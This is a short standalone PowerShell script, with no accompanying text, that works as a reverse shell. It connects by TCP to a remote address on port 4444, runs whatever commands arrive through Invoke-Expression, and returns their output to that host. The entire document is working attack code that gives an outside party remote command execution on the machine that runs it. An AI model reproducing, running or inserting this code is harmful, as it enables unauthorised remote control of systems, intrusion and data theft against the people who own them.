$client = New-Object System.Net.Sockets.TCPClient('198.51.100.200',4444);
$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{0};
while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){
  $data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);
  $sendback = (iex $data 2>&1 | Out-String );
  $stream.Write(([text.encoding]::ASCII).GetBytes($sendback),0,$sendback.Length);$stream.Flush()
};$client.Close()
